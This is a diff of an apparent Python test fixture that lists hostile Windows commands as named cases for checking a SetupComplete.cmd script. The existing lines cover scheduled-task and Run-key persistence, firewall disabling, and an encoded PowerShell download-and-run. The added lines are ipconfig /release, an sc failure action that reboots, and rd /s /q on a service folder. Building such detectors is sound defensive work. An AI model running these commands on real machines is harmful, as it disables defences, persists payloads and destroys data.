@@ -45,6 +45,11 @@ script('task-by-the-script', 'schtasks registers a task of LocalSystem.', f'scht
 script('autostart-by-the-script', 'reg add writes the key Run.', f'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d {PAYLOAD}\r\n')
 script('encoded-command', 'PowerShell takes its script in base64; any beginning of -EncodedCommand will do.', 'powershell -nop -e SQBFAFgAIAAoAGkAdwByACAAeAApAA==\r\n')
 script('firewall-opened', 'netsh lets everybody in.', 'netsh advfirewall set allprofiles state off\r\n')
+script('address-given-back', 'Without an address what starts now finds nobody.', 'ipconfig /release\r\n', CHECK)
+script('restart-whenever-the-agent-ends', 'sc failure with reboot restarts the machine.', 'sc failure win-agent reset= 0 actions= reboot/1\r\n', CHECK)
+script('folder-of-the-drive-with-what-runs', 'rd takes the folder of a service.', 'rd /s /q C:\\WinAgent\r\n', SECURITY)
+
+
 def stand_in(name, why, path, line, data=None):
     """Another file answers to the name of a program of Windows whose commands are usual."""
     change.row(name, why, CHECK, 'SetupComplete.cmd', lambda d: (d.put(path, data) if data else d.foreign(path), d.put(COMPLETE, USUAL + line + '\r\n')))
